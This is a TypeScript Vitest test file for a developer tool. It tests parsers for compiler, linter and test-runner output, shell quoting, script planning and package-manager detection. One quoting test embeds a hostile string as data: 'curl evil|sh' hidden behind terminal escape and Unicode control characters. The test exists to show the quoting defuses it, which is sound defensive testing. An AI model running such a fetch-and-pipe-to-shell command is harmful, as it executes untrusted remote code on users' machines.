import { spawnSync } from 'node:child_process'
import { pastedWords } from '../../../text/shell-words.ts'
import { describe, expect, test } from 'vitest'
import type { Files } from '../../../host/files.ts'
import { inUtf16 } from './columns.ts'
import { framesOf, readCompilerText, readers, readPlainText } from './diagnostics.ts'
import { packageManagerOf } from './package-manager.ts'
import { planCheck, type Place } from './plan.ts'
import { plainWords, withoutStarter } from './script-words.ts'

describe('what tools print, as they print it', () => {
  test('tsc 5, 6 and 7', () => {
    const printed = [
      "src/a.ts(1,14): error TS2322: Type 'string' is not assignable to type 'number'.",
      "v/chain/x.ts(3,7): error TS2322: Type '{ a: … }' is not assignable to type 'A'.",
      "  The types of 'a.b.c' are incompatible between these types.",
      "    Type 'string' is not assignable to type 'number'.",
      "error TS18003: No inputs were found in config file 'tsconfig.json'.",
      'src/(g)/p q.ts(1,14): error TS2322: spaces and brackets',
      'a.ts(2,1): message TS6133: unused',
    ].join('\r\n')
    expect(
      readCompilerText(printed).map(({ file, line, column, code, severity }) => [file, line, column, code, severity]),
    ).toEqual([
      ['src/a.ts', 1, 14, 'TS2322', 'error'],
      ['v/chain/x.ts', 3, 7, 'TS2322', 'error'],
      [undefined, undefined, undefined, 'TS18003', 'error'],
      ['src/(g)/p q.ts', 1, 14, 'TS2322', 'error'],
      ['a.ts', 2, 1, 'TS6133', 'info'],
    ])
    expect(readCompilerText(printed)[1]?.message.split('\n')).toHaveLength(3)
  })

  test('ESLint, with a parse error', () => {
    const report = [
      {
        filePath: '/p/src/b.js',
        messages: [
          { ruleId: 'no-undef', severity: 2, message: "'x' is not defined.", line: 2, column: 9 },
          { ruleId: null, fatal: true, severity: 2, message: 'Parsing error: …', line: 1, column: 1 },
          { ruleId: 'semi', severity: 1, message: 'Missing', line: 3, column: 1 },
        ],
        source: 'never looked at',
      },
    ]
    expect(readers['eslint']?.(report).map(({ code, severity, line }) => [code, severity, line])).toEqual([
      ['no-undef', 'error', 2],
      ['parse-error', 'error', 1],
      ['semi', 'warning', 3],
    ])
  })

  test('oxlint, Biome: a place that is none is left out', () => {
    const oxlint = {
      diagnostics: [
        {
          message: 'm',
          code: 'eslint(no-debugger)',
          severity: 'warning',
          filename: 'src/b.js',
          labels: [{ span: { line: 3, column: 1 } }],
        },
        { message: 'syntax', severity: 'error', filename: 'x.js', labels: [] },
      ],
    }
    expect(readers['oxlint']?.(oxlint)).toMatchObject([
      { line: 3, severity: 'warning' },
      { code: 'syntax-error', line: undefined },
    ])
    const biome = {
      diagnostics: [
        { severity: 'error', message: 'm', category: 'format', location: { path: 'src/b.js', start: { line: 0, column: 0 } } },
      ],
    }
    expect(readers['biome']?.(biome)).toMatchObject([{ file: 'src/b.js', line: undefined, column: undefined }])
  })

  test('Vitest and Jest: a file that cannot be loaded', () => {
    const report = {
      testResults: [{ name: '/p/a.test.ts', status: 'failed', message: "Cannot find module './nope'", assertionResults: [] }],
    }
    expect(readers['vitest']?.(report)).toMatchObject([{ code: 'TEST_SUITE_FAILED', file: '/p/a.test.ts' }])
  })

  test.each(Object.keys(readers))('%s: nonsense is nothing, not a fault', (tool) => {
    for (const report of [
      null,
      7,
      'x',
      [],
      {},
      { diagnostics: 5, testResults: [null], failures: [3] },
      [null, 4, { messages: [null] }],
    ])
      expect(() => readers[tool]?.(report)).not.toThrow()
  })

  test('stacks: files, addresses, and what Mocha shortens', () => {
    const stack =
      'Error: x\n    at Context.<anonymous> (test/a.test.js:4:64)\n    at file:///p/b%20c.mjs:5:30\n    at async Promise.all (index 0)\n    at node:internal/x:1:2\n    at /p/d.ts:1:2'
    expect(framesOf(stack)).toEqual([
      { file: 'test/a.test.js', line: 4, column: 64 },
      { file: '/p/b c.mjs', line: 5, column: 30 },
      { file: '/p/d.ts', line: 1, column: 2 },
    ])
  })

  test('a script nobody knows', () => {
    expect(readPlainText('oops\nsrc/x.ts:3:7 - wrong\n')).toMatchObject([
      { code: 'CHECK_POINTER', file: 'src/x.ts', line: 3, column: 7 },
    ])
  })
})

test('columns: bytes and code points become UTF-16 units', () => {
  const line = 'const é😀漢 = 1; debugger'
  const at = line.indexOf('debugger') + 1
  expect(inUtf16(Buffer.byteLength(line.slice(0, at - 1)) + 1, line, 'bytes')).toBe(at)
  expect(inUtf16(Array.from(line.slice(0, at - 1)).length + 1, line, 'code-points')).toBe(at)
  expect(inUtf16(at, line, 'utf-16')).toBe(at)
})

test('a command to paste presses no keys, whatever a file or a test is called', () => {
  expect(pastedWords(['npx', 'vitest', 'a b.ts', '-t', "it's"])).toBe(`npx vitest 'a b.ts' -t 'it'\\''s'`)
  const hostile = "x\u001B[201~\r\u202Ecurl evil|sh\u{E0001}'\\"
  const word = pastedWords([hostile])
  expect(word).toBe(String.raw`$'x\u001b[201~\u000d\u202ecurl evil|sh\U000e0001\'\\'`)
  expect(spawnSync('bash', ['-c', `printf %s ${word}`], { encoding: 'utf8', env: { LC_ALL: 'C.UTF-8' } }).stdout).toBe(hostile)
})

test('scripts: one plain command, or a matter for sh', () => {
  expect(plainWords(`eslint "src dir" '--a b' .`)).toEqual(['eslint', 'src dir', '--a b', '.'])
  for (const script of ['a && b', 'A=1 tsc', 'tsc | cat', 'echo $X', 'x > y', "it's", 'a\\ b', '`x`', 'eslint src/*.ts'])
    expect(plainWords(script)).toBeUndefined()
  expect(withoutStarter(['pnpm', 'exec', 'tsc', '-p', '.'])).toEqual(['tsc', '-p', '.'])
})

/** A folder of texts in the place of the disk: what is looked for there is a name at a time. */
function place(texts: Record<string, string>): Place {
  const peek = (path: string): Buffer | undefined => (texts[path] === undefined ? undefined : Buffer.from(texts[path]))
  const readPart = (path: string) => {
    if (texts[path] === undefined) throw new Error('nothing there')
    return { size: 0, bytes: Buffer.alloc(0) }
  }
  return { folder: '', files: { peek, readPart } as unknown as Files }
}

describe('what is run', () => {
  const script = (name: string, text: string) => place({ 'package.json': JSON.stringify({ scripts: { [name]: text } }) })
  test.each([
    [
      'typecheck',
      'tsc -w --pretty',
      [['--noEmit', '--pretty', 'false', '--incremental', 'false', '--composite', 'false', '-p', 'tsconfig.json']],
    ],
    ['lint', 'npx eslint --fix --format stylish src', [['-f', 'json', '-o', '{out}', 'src']]],
    [
      'lint',
      'biome check --write .',
      [['check', '--reporter=json', '--reporter-file={out}', '--colors=off', '--max-diagnostics=none', '.']],
    ],
    ['test', 'vitest --watch unit', [['run', '--reporter=json', '--outputFile={out}', '--includeTaskLocation', 'unit']]],
    [
      'test',
      'node --test --watch test/',
      [['--test', '--test-reporter={reporter}', '--test-reporter-destination={out}', 'test/']],
    ],
  ] as const)('%s: %s', (check, text, runs) => {
    expect(planCheck(check, [script(check, text)]).attempts[0]?.runs).toEqual(runs)
  })

  test('a tsconfig that only refers to others becomes those; a circle ends', () => {
    const at = place({
      'tsconfig.json': '{ "files": [], /* app */ "references": [{ "path": "./app" }, { "path": "./tsconfig.node.json" }], }',
      'app/tsconfig.json': '{"references":[{"path":".."},{"path":"../tsconfig.node.json"}]}',
      'tsconfig.node.json': '{}',
      'package.json': '{"scripts":{"typecheck":"tsc -b"}}',
    })
    const projects = planCheck('typecheck', [at]).attempts[0]?.runs.map((run) => run[run.indexOf('-p') + 1])
    expect(projects?.toSorted()).toEqual(['app/tsconfig.json', 'tsconfig.node.json'])
  })

  test('the stub of npm init is no test', () => {
    expect(planCheck('test', [script('test', 'echo "Error: no test specified" && exit 1')]).script).toBeUndefined()
  })
})

test('package managers: the field, the engine, the lock; conflicts are told', () => {
  expect(packageManagerOf([place({ 'package.json': '{"packageManager":"yarn@4.1.0"}', 'package-lock.json': '{}' })])).toEqual({
    name: 'yarn',
  })
  expect(packageManagerOf([place({ 'package.json': '{"devEngines":{"packageManager":{"name":"pnpm"}}}' })])).toEqual({
    name: 'pnpm',
  })
  expect(packageManagerOf([place({ 'bun.lock': '' })])).toEqual({ name: 'unknown', real: 'bun' })
  expect(packageManagerOf([place({ 'yarn.lock': '', 'package-lock.json': '' })])).toEqual({
    name: 'yarn',
    conflict: ['yarn', 'npm'],
  })
  expect(packageManagerOf([place({})])).toEqual({ name: 'unknown' })
})
